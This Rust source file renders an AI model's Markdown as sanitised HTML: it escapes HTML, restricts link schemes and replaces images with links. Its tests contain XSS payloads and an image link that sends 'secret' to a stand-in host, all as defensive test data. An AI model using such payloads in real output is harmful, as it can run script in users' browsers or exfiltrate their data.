//! Markdown of a model as HTML that nothing can hide in: a fixed set of tags, text escaped, no image loaded.

use agent_base::sanitise;
use agent_policy::syntax::{Class, Grammar, Lines};
use pulldown_cmark::{Alignment, CodeBlockKind, Event, HeadingLevel, Options, Parser, Tag, TagEnd};
use std::fmt::Write;

/// Bytes of Markdown that are formatted; what is longer is shown as it is.
const MAX_SOURCE: usize = 256 << 10;
/// Bytes of HTML. Small sources can stand for a lot: a table fills short rows with cells.
const MAX_HTML: usize = 1 << 20;
/// Lists and quotes within each other; deeper ones are shown at this depth.
const MAX_DEPTH: usize = 24;
/// Blocks of code whose words have colours, and bytes of each; a process reads each.
const MAX_COLOURED: usize = 8;
const MAX_CODE: usize = 16 << 10;

/// The HTML of `source`.
pub fn to_html(source: &str) -> String {
    formatted(source, HtmlWriter::default())
}

/// The same without the colours of programs.
pub fn to_plain_html(source: &str) -> String {
    formatted(source, HtmlWriter { coloured: MAX_COLOURED, ..HtmlWriter::default() })
}

fn formatted(source: &str, mut writer: HtmlWriter) -> String {
    let source = sanitise::plain(source);
    if source.len() > MAX_SOURCE {
        return preformatted(&source);
    }
    for event in Parser::new_ext(&source, options()) {
        writer.event(event);
        if writer.html.len() > MAX_HTML {
            return preformatted(&source);
        }
    }
    writer.html
}

/// Returns the beginning of the last block of `source`: what is before it is complete and will not change as more
/// arrives.
pub fn last_block(source: &str) -> usize {
    let (mut depth, mut last) = (0_usize, 0);
    for (event, range) in Parser::new_ext(source, options()).into_offset_iter() {
        if depth == 0 {
            last = range.start;
        }
        match event {
            Event::Start(_) => depth += 1,
            Event::End(_) => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    last
}

fn options() -> Options {
    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS
}

fn preformatted(source: &str) -> String {
    let mut html = String::from("<pre>");
    escape(source, &mut html);
    html + "</pre>"
}

/// Appends `text` as text.
pub fn escape(text: &str, html: &mut String) {
    for character in text.chars() {
        match character {
            '&' => html.push_str("&amp;"),
            '<' => html.push_str("&lt;"),
            '>' => html.push_str("&gt;"),
            '"' => html.push_str("&quot;"),
            '\'' => html.push_str("&#39;"),
            other => html.push(other),
        }
    }
}

#[derive(Default)]
struct HtmlWriter {
    html: String,
    depth: usize,
    /// For each open link or image, whether it has a tag.
    links: Vec<bool>,
    /// The open block of code whose language has a grammar.
    code: Option<(Grammar, String)>,
    coloured: usize,
    alignments: Vec<Alignment>,
    in_head: bool,
    column: usize,
}

impl HtmlWriter {
    fn event(&mut self, event: Event<'_>) {
        match event {
            Event::Start(tag) => self.start(tag),
            Event::End(tag) => self.end(tag),
            Event::Text(text) if self.code.is_some() => {
                if let Some((_, code)) = &mut self.code {
                    code.push_str(&text);
                }
            }
            // HTML that the model wrote is text.
            Event::Text(text) | Event::Html(text) | Event::InlineHtml(text) => escape(&text, &mut self.html),
            Event::Code(text) | Event::InlineMath(text) | Event::DisplayMath(text) => {
                self.html.push_str("<code>");
                escape(&text, &mut self.html);
                self.html.push_str("</code>");
            }
            Event::SoftBreak => self.html.push('\n'),
            Event::HardBreak => self.html.push_str("<br>"),
            Event::Rule => self.html.push_str("<hr>"),
            Event::TaskListMarker(true) => self.html.push_str("☑ "),
            Event::TaskListMarker(false) => self.html.push_str("☐ "),
            Event::FootnoteReference(name) => escape(&name, &mut self.html),
        }
    }

    fn start(&mut self, tag: Tag<'_>) {
        match tag {
            Tag::BlockQuote(_) => self.nest("<blockquote>"),
            Tag::List(None) => self.nest("<ul>"),
            Tag::List(Some(first)) => self.nest(&format!("<ol start=\"{first}\">")),
            Tag::Item => self.nest("<li>"),
            Tag::Paragraph => self.html.push_str("<p>"),
            Tag::Heading { level, .. } => {
                let _ = write!(self.html, "<h{}>", number(level));
            }
            Tag::CodeBlock(CodeBlockKind::Fenced(info)) => {
                let language: String =
                    info.chars().take_while(|c| c.is_ascii_alphanumeric()).take(20).collect();
                let _ = write!(self.html, "<pre data-language=\"{language}\"><code class=\"c\">");
                if self.coloured < MAX_COLOURED {
                    self.code = Grammar::named(&language).map(|language| (language, String::new()));
                    self.coloured += usize::from(self.code.is_some());
                }
            }
            Tag::CodeBlock(CodeBlockKind::Indented) => self.html.push_str("<pre><code>"),
            Tag::HtmlBlock => self.html.push_str("<pre>"),
            Tag::Table(alignments) => {
                self.alignments = alignments;
                self.html.push_str("<div class=\"table\"><table>");
            }
            Tag::TableHead => {
                (self.in_head, self.column) = (true, 0);
                self.html.push_str("<tr>");
            }
            Tag::TableRow => {
                self.column = 0;
                self.html.push_str("<tr>");
            }
            Tag::TableCell => self.cell(),
            Tag::Emphasis => self.html.push_str("<em>"),
            Tag::Strong => self.html.push_str("<strong>"),
            Tag::Strikethrough => self.html.push_str("<del>"),
            Tag::Link { dest_url, .. } => self.link(&dest_url, ""),
            // A picture's address would tell its server that it was shown, and whatever the model puts into it.
            Tag::Image { dest_url, .. } => self.link(&dest_url, "image: "),
            _ => {}
        }
    }

    fn end(&mut self, tag: TagEnd) {
        match tag {
            TagEnd::BlockQuote(_) => self.unnest("</blockquote>"),
            TagEnd::List(true) => self.unnest("</ol>"),
            TagEnd::List(false) => self.unnest("</ul>"),
            TagEnd::Item => self.unnest("</li>"),
            TagEnd::Paragraph => self.html.push_str("</p>"),
            TagEnd::Heading(level) => {
                let _ = write!(self.html, "</h{}>", number(level));
            }
            TagEnd::CodeBlock => {
                if let Some((language, code)) = self.code.take() {
                    coloured(language, &code, &mut self.html);
                }
                self.html.push_str("</code></pre>");
            }
            TagEnd::HtmlBlock => self.html.push_str("</pre>"),
            TagEnd::Table => self.html.push_str("</table></div>"),
            TagEnd::TableHead => {
                self.in_head = false;
                self.html.push_str("</tr>");
            }
            TagEnd::TableRow => self.html.push_str("</tr>"),
            TagEnd::TableCell => self.html.push_str(if self.in_head { "</th>" } else { "</td>" }),
            TagEnd::Emphasis => self.html.push_str("</em>"),
            TagEnd::Strong => self.html.push_str("</strong>"),
            TagEnd::Strikethrough => self.html.push_str("</del>"),
            TagEnd::Link | TagEnd::Image if self.links.pop() == Some(true) => self.html.push_str("</a>"),
            _ => {}
        }
    }

    fn nest(&mut self, tag: &str) {
        self.depth += 1;
        if self.depth <= MAX_DEPTH {
            self.html.push_str(tag);
        }
    }

    fn unnest(&mut self, tag: &str) {
        if self.depth <= MAX_DEPTH {
            self.html.push_str(tag);
        }
        self.depth = self.depth.saturating_sub(1);
    }

    fn cell(&mut self) {
        let name = if self.in_head { "th" } else { "td" };
        let class = match self.alignments.get(self.column) {
            Some(Alignment::Right) => " class=\"right\"",
            Some(Alignment::Center) => " class=\"centre\"",
            _ => "",
        };
        self.column += 1;
        let _ = write!(self.html, "<{name}{class}>");
    }

    fn link(&mut self, address: &str, before: &str) {
        let is_safe = ["https://", "http://", "mailto:"].iter().any(|scheme| {
            address.get(..scheme.len()).is_some_and(|start| start.eq_ignore_ascii_case(scheme))
        });
        // Links do not contain links.
        let has_tag = is_safe && !self.links.contains(&true);
        self.links.push(has_tag);
        if has_tag {
            self.html.push_str("<a target=\"_blank\" rel=\"noopener noreferrer nofollow\" href=\"");
            escape(address, &mut self.html);
            self.html.push_str("\">");
        }
        self.html.push_str(before);
    }
}

/// Appends a program with its words marked as the review marks them.
fn coloured(language: Grammar, code: &str, html: &mut String) {
    let lines = if code.len() <= MAX_CODE { Lines::read(language, code) } else { Lines::default() };
    for (number, line) in code.split_inclusive('\n').enumerate() {
        let mut at = 0;
        for (range, class) in lines.line(number) {
            let (Some(before), Some(word)) = (line.get(at..range.start), line.get(range.clone())) else {
                break;
            };
            escape(before, html);
            let _ = write!(html, "<span class=\"{}\">", class_name(*class));
            escape(word, html);
            html.push_str("</span>");
            at = range.end;
        }
        escape(line.get(at..).unwrap_or_default(), html);
    }
}

/// The class that the page's style sheet has for a word.
fn class_name(class: Class) -> &'static str {
    match class {
        Class::Comment => "s2",
        Class::Text => "s32",
        Class::Type => "s33",
        Class::Function => "s34",
        Class::Keyword => "s35",
        Class::Number => "s36",
    }
}

/// A heading of an answer is below those of the page.
fn number(level: HeadingLevel) -> usize {
    (level as usize + 2).min(6)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn html_is_text_and_images_are_links() {
        assert_eq!(to_html("a <b onclick=x>b</b>"), "<p>a &lt;b onclick=x&gt;b&lt;/b&gt;</p>");
        let image = to_html("![alt](https://evil.example/?q=secret)");
        assert!(image.contains("image: alt</a>") && !image.contains("<img"), "{image}");
        for source in
            ["[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,x)", "[x](//evil)"]
        {
            assert_eq!(to_html(source), "<p>x</p>", "{source}");
        }
        let html = to_html("[x](https://a.example/\"onmouseover=\"y)");
        assert!(!html.contains("\"onmouseover"), "{html}");
    }

    #[test]
    fn large_and_deep_sources_stay_small() {
        assert!(to_html(&"> ".repeat(5_000)).len() < 10_000);
        let table = format!("|{}\n|{}\n{}", "a|".repeat(2_000), "-|".repeat(2_000), "|a|\n".repeat(5_000));
        assert!(to_html(&table).len() <= MAX_HTML + 1024);
        assert!(to_html(&"<".repeat(MAX_SOURCE + 1)).starts_with("<pre>&lt;"));
    }

    #[test]
    fn words_of_programs_have_colours() {
        if Lines::read(Grammar::Python, "if x: pass").line(0).is_empty() {
            return; // Built without grammars.
        }
        let html = to_html("```python\nif x < 1:  # <b>\n    f(\"a\")\n```\n");
        let expected = "<pre data-language=\"python\"><code class=\"c\"><span class=\"s35\">if</span> x &lt; \
            <span class=\"s36\">1</span>:  <span class=\"s2\"># &lt;b&gt;</span>\n    \
            <span class=\"s34\">f</span>(<span class=\"s32\">&quot;a&quot;</span>)\n</code></pre>";
        assert_eq!(html, expected);
        assert_eq!(
            to_html("```\nif x\n```"),
            "<pre data-language=\"\"><code class=\"c\">if x\n</code></pre>"
        );
    }

    #[test]
    fn complete_blocks_are_known() {
        let source = "one\n\n- two\n- three\n\n```sh\nls";
        assert_eq!(&source[last_block(source)..], "```sh\nls");
        assert_eq!(last_block("one\ntwo"), 0);
        assert_eq!(last_block(""), 0);
    }

    proptest! {
        #[test]
        fn only_known_tags_come_out(source in "[ -~\\n]{0,200}") {
            let html = to_html(&source);
            for part in html.split('<').skip(1) {
                let name = part.trim_start_matches('/').split([' ', '>']).next().unwrap_or_default();
                prop_assert!(
                    ["p", "em", "strong", "del", "code", "pre", "a", "ul", "ol", "li", "blockquote", "br", "hr", "h3", "h4",
                     "h5", "h6", "table", "tr", "td", "th", "div", "span"].contains(&name),
                    "{html}"
                );
            }
            prop_assert!(last_block(&source) <= source.len());
        }
    }
}
